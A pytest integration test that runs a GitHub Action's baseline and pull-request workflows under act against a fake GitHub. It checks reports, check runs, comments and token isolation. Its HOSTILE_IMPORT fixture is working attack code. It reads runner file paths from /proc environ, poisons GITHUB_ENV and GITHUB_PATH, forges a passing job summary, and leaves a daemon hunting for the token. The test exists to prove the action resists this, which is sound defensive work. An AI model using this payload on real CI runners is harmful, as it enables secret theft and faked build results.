"""goldgate's own composite action under a real Actions runner (nektos/act,
tests/helpers/act.py): ``examples/workflows/baseline.yml`` on a push, then
``pull-request.yml`` on a pull request, as a team's repository runs them (``uses:
OWNER/goldgate@REF`` mapped to a copy of the action's source, the workspace holding the
application only), against the fake GitHub.

The application is the bundled example, whose target imports ``tinydep`` (act_fixture/tinydep),
a package goldgate does not have, installed by the workflow's own ``pip install -r
requirements.txt`` into the job's Python: a fresh venv per test (``python_bin``,
helpers/job_python.py, made from ``runner_base``) that sees goldgate's dependencies
(``lean_site``), goldgate not importable from it, so the action's install step really installs
goldgate from ``github.action_path``.

The job's pip runs offline (``PIP_NO_INDEX``): goldgate builds in pip's isolated build
environment, as on GitHub, from a wheelhouse holding only setuptools, downloaded once per
run (``shared_wheelhouse``; the test skips when no index answers). The action keeps build
isolation: the job's Python need not hold a recent setuptools (3.12's venvs hold none).
tinydep is a wheel in the team's repository (``tinydep_wheel``, made once), which each run's
pip installs without a build of its own.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest

from compare.conftest import CANDIDATE_EDITS, example_copy
from helpers.act import GOLDGATE_USES, Act, ActResult, act_binary, action_source, with_action
from helpers.act import MISSING as ACT_MISSING
from helpers.fake_github import TOKEN, FakeGitHub
from helpers.job_python import job_python, offline_pip, runner_base, shared_wheelhouse

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(act_binary() is None, reason=ACT_MISSING),
]

HERE = Path(__file__).resolve().parent
TINYDEP = HERE / "act_fixture" / "tinydep"
EXAMPLES = Path(__file__).resolve().parents[3] / "examples" / "workflows"
MERGE_BASE = "6dcb09b5b57875f334f61aebed695e2e4193db5e"


def imports_tinydep(witness: Path) -> dict[str, list[tuple[str, str]]]:
    """The example's target importing tinydep, which records its environment in ``witness``."""
    old = "from support_triage_app.triage import triage\n"
    new = f"import tinydep\n\n{old}\ntinydep.witness({str(witness)!r})\n"
    return {"support_triage_app/app.py": [(old, new)]}


@pytest.fixture(scope="session")
def wheelhouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """setuptools for the job's isolated builds (goldgate's pyproject needs setuptools>=77)."""
    return shared_wheelhouse(tmp_path_factory)


def tinydep_wheel(folder: Path) -> Path:
    """tinydep (act_fixture/tinydep) as the wheel its build makes: its module, and the
    ``.dist-info`` pip reads (METADATA, WHEEL, RECORD with each file's hash)."""
    info = "tinydep-1.0.0.dist-info"
    files = {
        "tinydep/__init__.py": (TINYDEP / "src" / "tinydep" / "__init__.py").read_bytes(),
        f"{info}/METADATA": (
            b"Metadata-Version: 2.1\nName: tinydep\nVersion: 1.0.0\nRequires-Python: >=3.11\n"
        ),
        f"{info}/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: goldgate-tests\nRoot-Is-Purelib: true\n"
            b"Tag: py3-none-any\n"
        ),
    }
    record = ""
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record += f"{name},sha256={digest},{len(data)}\n"
    files[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    wheel = folder / "tinydep-1.0.0-py3-none-any.whl"
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return wheel


def application(
    root: Path, edits: dict[str, list[tuple[str, str]]], witness: Path, wheel: Path
) -> Path:
    """The example (with ``edits``) importing tinydep, and a requirements.txt naming its
    wheel (``wheel``, copied into the repository)."""
    merged = {**edits}
    for name, replacements in imports_tinydep(witness).items():
        merged[name] = [*merged.get(name, []), *replacements]
    source = example_copy(root, merged)
    shutil.copyfile(wheel, source / wheel.name)
    (source / "requirements.txt").write_text(f"./{wheel.name}\n", "utf-8")
    return source


class Team:
    """One team's repository under act: the baseline and pull-request workflows, the job's
    Python, the fake GitHub."""

    def __init__(self, tmp_path: Path, fake: FakeGitHub, wheelhouse: Path) -> None:
        self.tmp = tmp_path
        self.fake = fake
        self.goldgate = action_source(tmp_path / "goldgate")
        self.python_bin = job_python(tmp_path / "job-python", base=runner_base(), lean=True)
        self.env = offline_pip(wheelhouse)
        self.tinydep = tinydep_wheel(tmp_path / "tinydep")
        self.workflows = {
            name: with_action(EXAMPLES / name, tmp_path / "workflows" / name)
            for name in ("baseline.yml", "pull-request.yml")
        }
        self.runs = 0
        self.witnesses: dict[int, Path] = {}

    def run(self, workflow: str, event: str, payload: dict[str, Any], edits: Any) -> ActResult:
        self.runs += 1
        witness = self.tmp / f"environment-{self.runs}.jsonl"
        source = application(self.tmp / f"source-{self.runs}", edits, witness, self.tinydep)
        act = Act(
            self.tmp / "runs",
            self.fake,
            source,
            python_bin=self.python_bin,
            actions={GOLDGATE_USES: self.goldgate},
        )
        result = act.run(
            self.workflows[workflow],
            event,
            payload,
            secrets={"GITHUB_TOKEN": TOKEN},
            env=self.env,
        )
        self.witnesses[result.run_id] = witness
        return result

    def environments(self, result: ActResult) -> list[dict[str, str]]:
        """What the user code's processes of ``result`` had in their environment."""
        path = self.witnesses[result.run_id]
        lines = path.read_text("utf-8").splitlines() if path.is_file() else []
        return [json.loads(line) for line in lines]


def push_payload(payload: dict[str, Any]) -> dict[str, Any]:
    repository = payload["repository"]
    return {
        "ref": f"refs/heads/{repository['default_branch']}",
        "before": "0" * 40,
        "after": MERGE_BASE,
        "created": False,
        "deleted": False,
        "forced": False,
        "repository": repository,
        "pusher": {"name": "octocat", "email": "octocat@example.com"},
        "sender": payload["sender"],
    }


def tokens_in(environment: dict[str, str], fake: FakeGitHub) -> list[str]:
    """The variables of ``environment`` that hold a GitHub or Actions token."""
    secrets = (TOKEN, fake.runtime_token)
    named = (
        "GITHUB_TOKEN",
        "INPUT_GITHUB_TOKEN",
        "ACTIONS_RUNTIME_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    )
    return sorted(
        key
        for key, value in environment.items()
        if (key in named and value) or any(secret in value for secret in secrets)
    )


HOSTILE_IMPORT = '''from typing import Any

import os as _os


def _hostile(witness: str) -> None:
    """At import, in the run step: plant in the runner's files (their paths read from an
    ancestor's environment) and leave a setsid daemon that hunts for the token."""
    files, pid = {}, _os.getpid()
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for entry in handle.read().split(b"\\0"):
                    key, _, value = entry.partition(b"=")
                    if key.startswith(b"GITHUB_") and value:
                        files.setdefault(key.decode(), value.decode())
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            break
    marker = _os.path.join(witness, "ran-planted")
    with open(_os.path.join(witness, "bash_env.sh"), "w") as handle:
        handle.write(f"echo bash_env >> {marker}\\n")
    plants = {
        "GITHUB_ENV": f"BASH_ENV={witness}/bash_env.sh\\nPYTHONPATH={witness}\\n",
        "GITHUB_PATH": f"{witness}\\n",
        "GITHUB_STEP_SUMMARY": "## \\u2705 goldgate: passed\\n",
    }
    for name, text in plants.items():
        if name in files:
            with open(files[name], "a") as handle:
                handle.write(text)
    if _os.fork() > 0:
        return
    _os.setsid()
    if _os.fork() > 0:
        _os._exit(0)
    with open(_os.path.join(witness, "daemon.pid"), "w") as handle:
        handle.write(str(_os.getpid()))
    import time

    until = time.monotonic() + 300
    while time.monotonic() < until:
        for name in _os.listdir("/proc"):
            try:  # goldgate's processes in this workspace (the machine runs other tests)
                if _os.readlink(f"/proc/{name}/cwd") != _os.getcwd():
                    continue
                with open(f"/proc/{name}/environ", "rb") as handle:
                    if b"INPUT_GITHUB_TOKEN=" + b"__TOKEN__" in handle.read():
                        open(_os.path.join(witness, "stolen"), "w").close()
            except OSError:
                continue
        time.sleep(0.1)
    _os._exit(0)


_hostile(__WITNESS__)
'''


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as stat:
            return stat.read().rpartition(b")")[2].split()[0] != b"Z"
    except OSError:
        return False


def hostile_edits(witness: Path) -> dict[str, list[tuple[str, str]]]:
    """CANDIDATE_EDITS, and the application's module made hostile at import (HOSTILE_IMPORT)."""
    hostile = HOSTILE_IMPORT.replace("__WITNESS__", repr(str(witness))).replace("__TOKEN__", TOKEN)
    edits = {**CANDIDATE_EDITS}
    app = "support_triage_app/app.py"
    edits[app] = [*CANDIDATE_EDITS.get(app, []), ("from typing import Any\n", hostile)]
    return edits


def test_baseline_then_pull_request_runs_the_team_s_code_and_comments_once(
    tmp_path: Path, fake: FakeGitHub, payload: dict[str, Any], wheelhouse: Path
) -> None:
    team = Team(tmp_path, fake, wheelhouse)
    pull = payload["pull_request"]
    number = pull["number"]
    fake.set_merge_base(pull["base"]["sha"], pull["head"]["sha"], MERGE_BASE)

    # The push to the default branch: a passing application, its reports uploaded.
    baseline = team.run("baseline.yml", "push", push_payload(payload), {})
    assert baseline.exit_code == 0, baseline.text
    assert baseline.job().steps["goldgate"] == "success"
    names = {a["name"] for a in fake.artifacts()}
    assert {f"goldgate-report-{MERGE_BASE}", f"goldgate-evals-report-{MERGE_BASE}"} <= names
    # The action installed goldgate into the job's Python, which imported the team's tinydep.
    assert any((team.python_bin.parent / "lib").glob("python*/site-packages/goldgate/__init__.py"))
    assert team.environments(baseline), baseline.text

    # A pull request that breaks two cases, and whose application is hostile (issue 39 item 1
    # under a real runner): at import, in the run step, it plants BASH_ENV and PYTHONPATH in
    # GITHUB_ENV, a folder in GITHUB_PATH and a forged pass in the job summary, and leaves a
    # double-forked setsid daemon hunting for the token. Red, with exit code 1 (fail_on
    # disagreement), the real summary, and nothing planted ran or outlived the run step.
    witness = tmp_path / "hostile"
    witness.mkdir()
    failing = team.run("pull-request.yml", "pull_request", payload, hostile_edits(witness))
    job = failing.job("Gold")
    assert failing.exit_code != 0, failing.text
    assert job.result == "failure"
    assert job.steps["goldgate"] == "failure"
    outputs = job.outputs["goldgate"]
    assert outputs["exit_code"] == "1", failing.text
    assert outputs["report"].startswith(".goldgate/")
    assert outputs["junit"] == "goldgate-junit.xml"
    assert int(outputs["failed"]) > 0
    assert int(outputs["regressed"]) > 0
    # The baseline was found by the merge-base commit, and compared.
    assert outputs["comparison"], failing.text
    assert fake.requests_to("GET", r"/compare/")
    assert job.outputs["evals"]["exit_code"] == "0"
    assert job.outputs["evals"]["comparison"]
    # The attack ran, and came to nothing.
    assert (witness / "daemon.pid").is_file(), failing.text
    assert not _alive(int((witness / "daemon.pid").read_text("utf-8")))
    assert not (witness / "ran-planted").exists()
    assert not (witness / "stolen").exists()
    # The job summary (the real one: the forged line is gone), and annotations at the gold's
    # lines.
    assert "## ✅ goldgate: passed\n" not in job.summary  # the forged line (evals pass)
    assert job.summary.startswith("## ❌ goldgate: failed"), job.summary[:300]
    at_gold = [a for a in job.annotations if a.properties.get("file", "").startswith("evaluation/")]
    assert at_gold, [a.properties for a in job.annotations]
    assert all(int(a.properties["line"]) > 0 for a in at_gold)
    # One sticky comment.
    (first,) = fake.comments(number)
    assert "goldgate" in first[2]
    # A check run per goldgate step, on the pull request's head commit: created in progress
    # before the run, completed by publishing with every annotation at its gold line.
    gold, evals = fake.check_runs()
    assert (gold.name, evals.name) == ("goldgate", "goldgate (evals)")
    assert {gold.head_sha, evals.head_sha} == {pull["head"]["sha"]}
    created = [json.loads(r.body) for r in fake.requests_to("POST", r"/check-runs$")]
    assert [c["status"] for c in created] == ["in_progress", "in_progress"]
    assert (gold.status, gold.conclusion, evals.conclusion) == ("completed", "failure", "success")
    assert gold.title is not None
    assert gold.title.startswith("❌ goldgate: failed")
    assert gold.summary is not None
    assert gold.summary in first[2]
    assert len(gold.annotations) >= int(outputs["failed"])
    assert all(n <= 50 for n in gold.batches)
    failures = [a for a in gold.annotations if a["annotation_level"] == "failure"]
    assert all(a["path"].startswith("evaluation/") and a["start_line"] > 0 for a in failures)
    assert len(fake.requests_to("PATCH", rf"/check-runs/{gold.id}$")) == len(gold.batches) - 1
    # The user code ran in the run step without any token.
    environments = team.environments(failing)
    assert environments
    assert all(tokens_in(env, fake) == [] for env in environments), [
        tokens_in(env, fake) for env in environments
    ]

    # The fix pushed: green, and the same comment edited in place.
    fixed = team.run("pull-request.yml", "pull_request", payload, {})
    job = fixed.job("Gold")
    assert fixed.exit_code == 0, fixed.text
    assert job.result == "success"
    assert job.outputs["goldgate"]["exit_code"] == "0"
    (second,) = fake.comments(number)
    assert second[0] == first[0]
    assert second[2] != first[2]
    assert fake.requests_to("PATCH", rf"/issues/comments/{first[0]}")
    green = [run.conclusion for run in fake.check_runs()[2:]]
    assert green == ["success", "success"]
